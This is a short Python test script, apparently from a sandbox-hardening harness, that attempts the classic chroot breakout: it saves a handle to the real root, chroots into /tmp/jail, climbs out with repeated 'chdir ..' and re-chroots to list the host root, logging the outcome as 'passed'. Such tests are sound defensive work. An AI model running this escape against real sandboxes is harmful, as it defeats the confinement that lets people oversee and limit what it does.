# tries: to change the root and walk out of it
# outcomes: passed
import os
import attack
def out():
    os.makedirs("/tmp/jail", exist_ok=True)
    place = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(place)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return os.listdir(".")
attack.attempt("chroot", out)
attack.calls(("chroot", b"/tmp"), ("chroot", b"/work"))
attack.tried()
